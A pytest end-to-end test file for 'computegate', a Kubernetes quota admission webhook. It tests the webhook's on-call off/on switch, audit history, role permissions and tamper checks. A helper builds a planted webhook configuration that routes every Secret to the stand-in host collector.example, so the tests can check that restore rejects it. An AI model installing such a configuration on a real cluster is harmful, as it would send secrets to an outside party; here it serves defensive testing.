"""The gate out of the way by one command, its servers alive, dead or mute, and back as it was; measured, printed."""

from __future__ import annotations

import contextlib
import json
import socket
import subprocess
import sys
import time
from typing import TYPE_CHECKING, Any

import pytest

from tests.e2e.objects import gpu_pod, namespace, quota, tenant
from tests.e2e.receivers import computegate
from tests.e2e.world import eventually
from tools.installation import NAMESPACE

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from tests.e2e.world import World

CONFIGURATION = ("validatingwebhookconfiguration", "computegate")


@contextlib.contextmanager
def mute(world: World) -> Iterator[None]:
    """All replicas take connections and never answer."""
    balancer = world.installed.balancer
    before = list(balancer.backends)
    with socket.create_server(("127.0.0.1", 0), backlog=1024) as nobody:
        balancer.backends = [nobody.getsockname()[1]]
        try:
            yield
        finally:
            balancer.backends = before


def _become(world: World, servers: str) -> contextlib.AbstractContextManager[None]:
    if servers == "dead":
        return world.installed.stopped()
    return mute(world) if servers == "mute" else contextlib.nullcontext()


@pytest.fixture(autouse=True)
def back_on(world: World) -> Iterator[None]:
    """Put the gate back for the tests that follow, whatever came of this one."""
    yield
    computegate(world, "on")
    world.installed.wait_in_force()


def history(world: World) -> list[dict[str, Any]]:
    held = world.get("configmap", "computegate-off", "-n", NAMESPACE)
    return [json.loads(line) for line in held["data"]["history"].splitlines()]


def bare(world: World) -> dict[str, Any]:
    stored = world.get(*CONFIGURATION)
    kept = {key: stored["metadata"].get(key) for key in ("name", "labels", "annotations")}
    managed = json.loads(world.kubectl("get", *CONFIGURATION, "-o", "json", "--show-managed-fields").stdout)
    managers = sorted((each["manager"], each["operation"]) for each in managed["metadata"]["managedFields"])
    return {"metadata": kept, "webhooks": stored["webhooks"], "managers": managers}


NARROWED = ("validatingadmissionpolicybinding", "computegate-narrowed")


@pytest.fixture
def blocked_when_missing(world: World) -> Iterator[None]:
    """The release refuses the pods of enforced namespaces for as long as its configuration is missing."""
    rendered = world.installed.rendered({**world.installed._values, "guards.blockWhenMissing": "true"})
    world.apply(*(each for each in rendered if each["metadata"]["name"] in {"computegate-gate", NARROWED[1]}))
    yield
    computegate(world, "on")
    world.installed.apply()


@pytest.mark.usefixtures("blocked_when_missing")
def test_what_refuses_pods_while_the_gate_is_missing_goes_with_it_and_comes_back(
    world: World, country: str, unique: str
) -> None:
    world.apply(quota(unique, country, 0), tenant(unique, country), namespace(unique, unique))
    before = world.get(*NARROWED)["spec"]
    assert before["paramRef"]["parameterNotFoundAction"] == "Deny"
    with world.installed.stopped():
        assert computegate(world, "off", "--reason", "the servers do not start").returncode == 0
        eventually(lambda: world.try_create(gpu_pod("first", unique)).returncode, lambda code: code == 0)
    assert computegate(world, "on").returncode == 0
    assert world.get(*NARROWED)["spec"] == before


def test_what_refuses_for_somebody_else_is_named_and_left_alone(world: World) -> None:
    name = "somebody-else"
    spec = {
        "policyName": name,
        "validationActions": ["Deny"],
        "paramRef": {"name": "computegate", "parameterNotFoundAction": "Deny"},
    }
    kind = "ValidatingAdmissionPolicyBinding"
    registration = {"apiVersion": "admissionregistration.k8s.io/v1", "metadata": {"name": name}}
    world.apply({**registration, "kind": kind, "spec": spec})
    done = computegate(world, "off", "--reason", "a test")
    assert f"by what is not the release's: kubectl delete validatingadmissionpolicybinding {name}" in done.stdout
    assert world.get(kind, name)["spec"]["paramRef"] == spec["paramRef"]
    world.kubectl("delete", kind, name)


def _elsewhere(stored: dict[str, Any], name: str) -> dict[str, Any]:
    """Return the configuration as one that sends every Secret to a stranger."""
    rules = [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["*"], "resources": ["secrets"]}]
    entry = {**stored["webhooks"][0], "clientConfig": {"url": "https://collector.example/"}, "rules": rules}
    return {**stored, "metadata": {"name": name}, "webhooks": [entry]}


FOREIGN = "innocent"
PLANTED: dict[str, tuple[Callable[[dict[str, Any]], dict[str, Any]], int, str]] = {
    "its content": (lambda kept: _elsewhere(kept, "computegate"), 0, ""),
    "another object": (lambda kept: _elsewhere(kept, FOREIGN), 2, f"{FOREIGN} was kept, which is not the release's"),
    "another kind": (lambda kept: {**kept, "kind": "ClusterRole"}, 2, "ClusterRole computegate was kept"),
    "no object": (lambda _: {}, 2, "computegate on: "),
}
"""What who is on call writes into the ConfigMap, beside the exit code of ``on`` and what it says."""


@pytest.mark.parametrize("what", PLANTED)
def test_what_is_made_again_is_the_release_s_whatever_the_configmap_says(world: World, what: str) -> None:
    plant, code, said = PLANTED[what]
    was = bare(world)
    assert computegate(world, "off", "--reason", "a test").returncode == 0
    held = world.get("configmap", "computegate-off", "-n", NAMESPACE)["data"]
    (kept,) = json.loads(held["taken"])
    _write(world, "computegate-off", {**held, "taken": json.dumps([{**kept, "object": plant(kept["object"])}])})
    done = computegate(world, "on")
    assert done.returncode == code
    assert said in done.stderr
    assert world.kubectl("get", CONFIGURATION[0], FOREIGN, check=False).returncode == 1
    if code == 0:
        assert bare(world)["webhooks"] == was["webhooks"]
    else:
        assert world.kubectl("get", *CONFIGURATION, check=False).returncode == 1
        _write(world, "computegate-off", held)


def test_on_reads_no_other_configmap_and_none_without_a_digest(world: World) -> None:
    assert computegate(world, "off", "--reason", "a test").returncode == 0
    held = world.get("configmap", "computegate-off", "-n", NAMESPACE)["data"]
    (kept,) = json.loads(held["taken"])
    planted = json.dumps([{**kept, "object": _elsewhere(kept["object"], FOREIGN)}])
    _write(world, "aaa", {"history": held["history"], "taken": planted})
    _write(world, "computegate-off", {key: text for key, text in held.items() if key != "installed"})
    done = computegate(world, "on")
    assert (done.returncode, done.stderr) == (
        2,
        "computegate on: the release was changed since it was taken out: run helm upgrade instead\n",
    )
    assert world.kubectl("get", CONFIGURATION[0], FOREIGN, check=False).returncode == 1
    _write(world, "computegate-off", held)
    assert computegate(world, "on").returncode == 0
    assert world.kubectl("get", CONFIGURATION[0], FOREIGN, check=False).returncode == 1
    world.kubectl("delete", "configmap", "aaa", "-n", NAMESPACE)


def _write(world: World, name: str, data: dict[str, str]) -> None:
    metadata = {"name": name, "namespace": NAMESPACE}
    stored = json.dumps({"apiVersion": "v1", "kind": "ConfigMap", "metadata": metadata, "data": data})
    found = world.kubectl("get", "configmap", name, "-n", NAMESPACE, check=False).returncode == 0
    world.kubectl("replace" if found else "create", "-f", "-", stdin=stored)


def test_who_is_on_call_does_not_write_what_on_makes(world: World, unique: str) -> None:
    _give(world, unique, "computegate-oncall")
    asked = {
        (verb, name): world.kubectl(
            *("auth", "can-i", verb, f"configmap/{name}", "-n", NAMESPACE, "--as", unique), check=False
        ).stdout.strip()
        for verb in ("get", "update")
        for name in ("computegate-off", "computegate-gate")
    }
    assert asked == {
        ("get", "computegate-off"): "yes",
        ("get", "computegate-gate"): "yes",
        ("update", "computegate-off"): "yes",
        ("update", "computegate-gate"): "no",
    }


@pytest.mark.parametrize("servers", ["alive", "dead", "mute"])
def test_one_command_takes_the_gate_out_of_the_way_and_one_puts_it_back(
    world: World, country: str, unique: str, servers: str
) -> None:
    world.apply(quota(unique, country, 1), tenant(unique, country), namespace(unique, unique))
    world.admit(gpu_pod("first", unique))
    assert "exceeded quota" in world.denial(gpu_pod("second", unique))
    was = bare(world)
    reason = f"nodes are replaced, and the servers are {servers}"
    with _become(world, servers):
        begun = time.monotonic()
        done = computegate(world, "off", "--reason", reason)
        said = time.monotonic() - begun
        assert done.returncode == 0, done.stderr
        eventually(lambda: world.try_create(gpu_pod("second", unique)).returncode, lambda code: code == 0)
        passed = time.monotonic() - begun
        sys.stdout.write(
            f"\nservers {servers}: off after {said:.1f} s, a pod past the limit created after {passed:.1f} s\n"
        )
        assert "pods are created unjudged since " in done.stdout
        again = computegate(world, "off", "--reason", "again")
        assert (again.returncode, again.stderr) == (
            2,
            "computegate off: no webhook configuration of computegate is installed: it is off already\n",
        )
    on = computegate(world, "on")
    assert on.returncode == 0, on.stderr
    assert bare(world) == was
    world.installed.wait_in_force()
    eventually(lambda: world.use(unique), lambda use: use["used"] == 2)
    assert "exceeded quota" in world.denial(gpu_pod("third", unique))
    off_line, on_line = history(world)[-2:]
    assert (off_line["what"], off_line["by"], off_line["reason"]) == ("off", "admin", reason)
    assert (on_line["what"], on_line["by"]) == ("on", "admin")
    _account_names_what_passed(world, unique, on.stdout)


def _account_names_what_passed(world: World, where: str, said: str) -> None:
    """What `on` says to run tells of the pod that nobody judged, and of no other."""
    command = said.partition("computegate report admitted ")[2].split()
    records = [f"--from={replica.record}" for replica in world.installed.replicas]
    done = computegate(world, "report", "admitted", *command, *records, "-n", where, "-o", "json")
    assert done.returncode == 1, done.stderr
    found = json.loads(done.stdout)
    assert found["recorded"] == []
    (case,) = found["unseen"]
    assert (case["tenant"], case["suchAs"], case["requests"]) == (where, "pods second", 1)
    assert case["reasons"] == ["QuotaExceeded"]


def test_on_refuses_where_nothing_was_taken_out(world: World) -> None:
    done = computegate(world, "on")
    assert (done.returncode, done.stderr) == (2, "computegate on: the webhook configuration is there: it is on\n")


def test_off_needs_a_reason(world: World) -> None:
    done = computegate(world, "off", "--reason", " ")
    assert done.returncode == 2
    assert "--reason is empty" in done.stderr
    assert world.get(*CONFIGURATION)


def test_off_refuses_a_namespace_that_is_not_the_release_s(world: World) -> None:
    done = computegate(world, "off", "--reason", "a test", "-n", "default")
    assert (done.returncode, done.stderr) == (
        2,
        "computegate off: no ConfigMap computegate-gate in namespace default: give the release's, or --force\n",
    )
    assert world.get(*CONFIGURATION)


def test_off_that_fails_is_not_off_in_the_history(world: World, unique: str) -> None:
    seeing = ("--verb=get,list", "--resource=validatingwebhookconfigurations.admissionregistration.k8s.io")
    world.kubectl("create", "clusterrole", unique, *seeing)
    notes = ("--verb=get,create,update", "--resource=configmaps", "-n", NAMESPACE)
    world.kubectl("create", "role", unique, *notes)
    world.kubectl("create", "clusterrolebinding", unique, f"--clusterrole={unique}", f"--user={unique}")
    world.kubectl("create", "rolebinding", unique, f"--role={unique}", f"--user={unique}", "-n", NAMESPACE)
    kubeconfig = world.installed.plane.kubeconfig_for(unique)
    command = [sys.executable, "-m", "admission.cli.main", "off", "--reason=a test", "--kubeconfig", str(kubeconfig)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 2
    assert world.get(*CONFIGURATION)
    assert [each["what"] for each in history(world)[-2:]] == ["off", "failed"]


def test_without_the_program_kubectl_does_it_and_the_chart_puts_it_back(
    world: World, country: str, unique: str
) -> None:
    world.apply(quota(unique, country, 0), tenant(unique, country), namespace(unique, unique))
    was = bare(world)
    with world.installed.stopped():
        begun = time.monotonic()
        world.kubectl("delete", *CONFIGURATION)
        eventually(lambda: world.try_create(gpu_pod("first", unique)).returncode, lambda code: code == 0)
        sys.stdout.write(f"\nkubectl delete: a pod past the limit created after {time.monotonic() - begun:.1f} s\n")
    world.installed.apply()
    assert bare(world)["webhooks"] == was["webhooks"]


LEAST = {"computegate-oncall": "", "least": "bindings could not be looked at", "no-notes": "not kept in the cluster"}
"""Roles of who may take the gate out, beside what is said of what they may not do."""


@pytest.mark.parametrize("role", LEAST)
def test_who_is_on_call_needs_few_rights(world: World, unique: str, role: str) -> None:
    _give(world, unique, role)
    kubeconfig = world.installed.plane.kubeconfig_for(unique)
    command = [sys.executable, "-m", "admission.cli.main", "off", "--reason=a test", "--kubeconfig", str(kubeconfig)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
    assert (done.returncode, done.stderr) == (0, "")
    assert LEAST[role] in done.stdout
    assert world.kubectl("get", *CONFIGURATION, check=False).returncode == 1
    if role == "no-notes":
        world.installed.apply()


def _give(world: World, user: str, role: str) -> None:
    """Bind a role to a user; make it with the least rights, unless it is the chart's."""
    if role != "computegate-oncall":
        what = ("--verb=get,delete", "--resource=validatingwebhookconfigurations.admissionregistration.k8s.io")
        world.kubectl("create", "clusterrole", user, *what)
    notes = ("--verb=get,create,update", "--resource=configmaps", "-n", NAMESPACE)
    if role == "least":
        world.kubectl("create", "role", user, *notes)
    named = role if role == "computegate-oncall" else user
    world.kubectl("create", "clusterrolebinding", user, f"--clusterrole={named}", f"--user={user}")
    if role != "no-notes":
        world.kubectl("create", "rolebinding", user, f"--role={named}", f"--user={user}", "-n", NAMESPACE)
